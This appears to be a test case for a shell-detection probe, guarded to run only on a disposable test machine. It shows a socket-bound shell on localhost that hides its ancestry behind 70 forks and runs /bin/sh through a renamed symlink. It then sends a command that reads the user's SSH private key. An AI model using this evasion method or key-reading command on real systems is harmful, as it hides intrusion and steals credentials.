"""T30b: as T30, but far below who connected, past the repeats that are counted, and by a link to the shell."""

import fcntl
import os
import socket

if not os.path.isdir("/usr/lib/probes"):
    raise SystemExit("only in a machine that is thrown away")


def become_a_shell(caller: int) -> None:
    for _ in range(70):
        if child := os.fork():
            os.waitpid(child, 0)
            os._exit(0)
    for _ in range(70):
        fcntl.fcntl(caller, fcntl.F_DUPFD, 0)
    os.closerange(0, 3)
    for _ in range(3):
        fcntl.fcntl(caller, fcntl.F_DUPFD, 0)
    os.symlink("/bin/sh", "/tmp/l")
    os.execv("/tmp/l", ["l"])


with socket.create_server(("127.0.0.1", 0)) as listener:
    with socket.create_connection(listener.getsockname()) as caller:
        other, _ = listener.accept()
        with other:
            other.sendall(b"cat ~/.ssh/id_ed25519; exit\n")
            if (child := os.fork()) == 0:
                become_a_shell(caller.fileno())
            os.waitpid(child, 0)
